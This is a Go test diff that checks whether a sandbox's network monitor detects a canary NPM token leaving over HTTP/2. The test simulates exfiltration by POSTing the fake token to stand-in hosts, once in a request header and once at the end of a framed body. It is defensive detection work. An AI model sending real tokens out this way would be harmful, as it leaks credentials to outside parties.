@@ -5,6 +5,7 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"io"
+	"net/http"
 	"slices"
 	"strings"
 	"testing"
@@ -79,6 +80,49 @@ func TestStolenSecretsAreFound(t *testing.T) {
 	}
 	if r.Beyond.Flows == 0 {
 		t.Error("the limit of flows did not matter")
+	}
+}
+
+// HTTP/2 packs what a header says, and cuts bodies into frames.
+func TestStolenSecretsAreFoundInHTTP2(t *testing.T) {
+	set, err := canary.New(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	g := newGuest(t, func(c *network.Config) { c.Canaries = set })
+	client := g.browser(dns.TypeA)
+	client.Transport.(*http.Transport).ForceAttemptHTTP2 = true
+	ask := func(host, header, body string) {
+		t.Helper()
+		req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "https://"+host+"/", strings.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Header.Set("X-Session", header)
+		r, err := client.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		r.Body.Close()
+		if r.ProtoMajor != 2 {
+			t.Errorf("%s answers in %s", host, r.Proto)
+		}
+	}
+	ask("in-a-header.example", set.Value(canary.NPMToken), "")
+	ask("in-a-body.example", "x", strings.Repeat("x", 16<<10-9)+set.Value(canary.NPMToken))
+	ask("nothing.example", "x", "y")
+	found := func(r network.Records) (hosts []string) {
+		for _, f := range r.Flows {
+			if len(f.Canaries) > 0 && f.Canaries[0].Name == canary.NPMToken {
+				hosts = append(hosts, f.Domain)
+			}
+		}
+		slices.Sort(hosts)
+		return hosts
+	}
+	r := g.records("the secrets", func(r network.Records) bool { return len(found(r)) == 2 })
+	if got := found(r); !slices.Equal(got, []string{"in-a-body.example", "in-a-header.example"}) {
+		t.Errorf("found at %v", got)
 	}
 }
 
